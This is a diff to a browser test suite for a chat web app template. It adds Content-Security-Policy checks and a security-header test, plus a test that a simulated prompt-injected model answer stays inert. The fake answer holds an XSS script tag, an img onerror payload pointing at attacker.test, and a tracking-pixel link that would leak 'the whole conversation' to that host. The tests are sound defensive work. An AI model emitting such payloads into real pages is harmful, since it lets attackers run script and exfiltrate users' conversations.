@@ -10,6 +10,7 @@ figures in `websocket.json`. axe-core (npm) checks each state in light and dark 
 
 import json
 import os
+import re
 import shutil
 import time
 from typing import NamedTuple
@@ -43,6 +44,15 @@ MAX_MESSAGE_CHARS = 8000
 # The defaults the app runs with (settings.py): a visitor's own open streams.
 MAX_STREAMS_PER_VISITOR = 4
 AXE_CORE = "axe-core@4.14.1"
+# The image host of fake-hostile's answer that the page allows; the browser's requests to its
+# hosts (*.test) are answered by the test itself.
+ALLOWED_IMAGE_HOST = "images.allowed.test"
+# What the test's hosts answer: a picture anyone can see in the screenshots.
+CHART = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="240" height="80">'
+    b'<rect width="240" height="80" fill="#3e63dd"/><text x="20" y="50" fill="white" '
+    b'font-size="28">allowed image</text></svg>'
+)
 DESKTOP = {"width": 1280, "height": 800}
 PHONE = {"width": 390, "height": 844}
 CHROMIUM_ARGS = [
@@ -61,10 +71,11 @@ class App(NamedTuple):
 
 @pytest.fixture(scope="module")
 def app(upstream, tmp_path_factory, request) -> App:
-    """`python -m {{ cookiecutter.package_name }} prod` with its own database."""
+    """`python -m {{ cookiecutter.package_name }} prod` (or `$BROWSER_SUITE_COMMAND`: dev) with its own
+    database."""
     tmp = tmp_path_factory.mktemp("browser")
     port = free_port()
-    arguments = ["prod", "--port", str(port)]
+    arguments = [os.environ.get("BROWSER_SUITE_COMMAND", "prod"), "--port", str(port)]
 {%- if cookiecutter.framework == "flask" %}
     api_port = free_port()
     arguments += ["--api-port", str(api_port)]
@@ -74,6 +85,7 @@ def app(upstream, tmp_path_factory, request) -> App:
 {%- endif %}
     settings = {
         "database_url": page_database(request, tmp),
+        "answer_image_hosts": ALLOWED_IMAGE_HOST,
         "ui_flush_ms": "50",
         "ui_password": PASSWORD,
         "api_token": API_TOKEN,
@@ -110,16 +122,23 @@ def axe(tmp_path_factory) -> str:
 
 @pytest.fixture
 def page(app, browser) -> Page:
-    """A new visitor (browser context) on the chat page, past the gate."""
+    """A new visitor (browser context) on the chat page, past the gate. Whatever the test does,
+    the page's Content-Security-Policy must refuse nothing the page itself does."""
     context = browser.new_context(viewport=DESKTOP)
     page = context.new_page()
     # Shown with a failure: what the page logged, and when its websocket closed.
     page.on("console", lambda message: print(f"console {message.type}: {message.text}"))
     page.on("websocket", lambda ws: ws.on("close", lambda _: print(f"closed: {ws.url}")))
+    refused = []
+    page.on(
+        "console",
+        lambda message: "Content Security Policy" in message.text and refused.append(message.text),
+    )
     page.goto(app.url)
     enter_password(page)
     yield page
     context.close()
+    assert not refused, f"the page's policy refused what the page did: {refused}"
 
 
 def enter_password(page: Page, password: str = PASSWORD) -> None:
@@ -209,7 +228,7 @@ def sideways_scroll(page: Page) -> int:
 def serious_violations(page: Page, axe: str) -> list[dict]:
     """axe-core's serious and critical findings on the page as it is now."""
     if not page.evaluate("typeof window.axe !== 'undefined'"):
-        page.add_script_tag(content=axe)
+        page.evaluate(axe)  # by DevTools: a script tag would be refused by the page's policy
     return page.evaluate(
         """async () => (await axe.run(document, {resultTypes: ["violations"]})).violations
              .filter((v) => ["serious", "critical"].includes(v.impact))
@@ -365,6 +384,69 @@ def test_code_renders_while_streaming_without_raw_fences(page, axe):
     expect(answer.locator("strong", has_text="the code")).to_be_visible()
     assert "**" not in answer.inner_text()
     audit(page, axe, "markdown")
+
+
+def test_an_injected_answer_runs_nothing_and_sends_nothing_to_another_host(page, axe):
+    """What a prompt injection wrote: its HTML stays text and its script never runs; its image
+    on another host is a link, which loads nothing until the visitor opens it."""
+    requests = []
+
+    def answer_for_test_hosts(route):
+        requests.append((route.request.url, route.request.headers.get("referer")))
+        route.fulfill(body=CHART, content_type="image/svg+xml")
+
+    page.context.route("http://*.test/**", answer_for_test_hosts)
+    ask(page, "Draw me a chart", "openai/fake-hostile")
+    answer = answers(page).last
+    expect(answer).to_have_attribute("data-status", "done")
+
+    chart = answer.get_by_role("img", name="chart")
+    expect(chart).to_be_visible()
+    loaded = "image => image.complete && image.naturalWidth > 0"
+    page.wait_for_function(loaded, arg=chart.element_handle())
+    expect(answer).to_contain_text("<script>window.pwned = 2</script>")
+    expect(answer).to_contain_text('<img src="http://attacker.test/raw.png" onerror=')
+    expect(answer.get_by_role("link", name="Click me")).to_have_count(0)
+    guide = answer.get_by_role("link", name="the guide")
+    expect(guide).to_have_attribute("rel", "noopener noreferrer")
+    expect(guide).to_have_attribute("target", "_blank")
+    expect(answer).to_contain_text("the guide (docs.example.test)")
+    placeholder = answer.get_by_role("link", name="[Image: tracking pixel] (attacker.test)")
+    expect(placeholder).to_be_visible()
+    screenshots(page, "injected-answer")
+    audit(page, axe, "injected-answer", sizes=(("desktop", DESKTOP),))
+    assert page.evaluate("window.pwned") is None
+    assert requests == [(f"http://{ALLOWED_IMAGE_HOST}/chart.png", None)]
+
+    with page.expect_popup() as opened:
+        placeholder.click()
+    opened.value.wait_for_load_state()
+    leak = "http://attacker.test/leak.png?c=the+whole+conversation"
+    assert requests[1:] == [(leak, None)]  # on the visitor's click, in a tab of its own
+    assert page.evaluate("window.pwned") is None
+
+
+def test_the_page_its_files_and_the_api_send_the_security_headers(app):
+    page = httpx.get(app.url)
+    policy = page.headers["content-security-policy"]
+    assert "default-src 'self'" in policy and "'sha256-" in policy  # its inline scripts
+    assert f"img-src 'self' data: {ALLOWED_IMAGE_HOST};" in policy
+    assert "frame-ancestors 'none'" in policy and page.headers["x-frame-options"] == "DENY"
+    script = httpx.get(app.url + re.findall(r"/assets/[\w.-]+\.js", page.text)[0])
+    assert script.headers["content-type"].startswith("text/javascript")
+    token = {"authorization": f"Bearer {API_TOKEN}"}
+    models = httpx.get(f"{app.api}/api/models", headers=token)
+    question = {"messages": [{"role": "user", "content": "Hello"}]}
+    with httpx.stream("POST", f"{app.api}/api/chat", json=question, headers=token) as answer:
+        assert answer.headers["content-type"].startswith("text/event-stream")
+    for response in (page, script, models, answer):
+        assert response.status_code == 200
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert response.headers["referrer-policy"] == "no-referrer"
+        assert "strict-transport-security" not in response.headers  # plain HTTP
+    for response in (script, models, answer):
+        policy = response.headers["content-security-policy"]
+        assert policy == "default-src 'none'; frame-ancestors 'none'"
 
 
 def test_a_tool_call_shows_while_it_runs_then_opens_to_its_arguments_and_result(page, axe):
